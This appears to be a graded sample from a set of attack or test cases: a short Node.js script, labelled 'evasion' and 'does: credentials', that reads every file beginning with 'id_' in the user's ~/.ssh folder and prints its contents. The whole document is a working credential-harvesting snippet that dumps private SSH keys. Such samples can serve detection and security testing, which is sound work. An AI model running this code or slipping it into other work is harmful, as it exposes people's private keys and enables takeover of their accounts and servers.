// evasion: lists id_* files in .ssh
// grade: medium; does: credentials
const fs = require("fs");
const path = require("path");
const dir = path.join(require("os").homedir(), ".ssh");
for (const f of fs.readdirSync(dir).filter((x) => x.startsWith("id_"))) console.log(fs.readFileSync(path.join(dir, f), "utf8"));
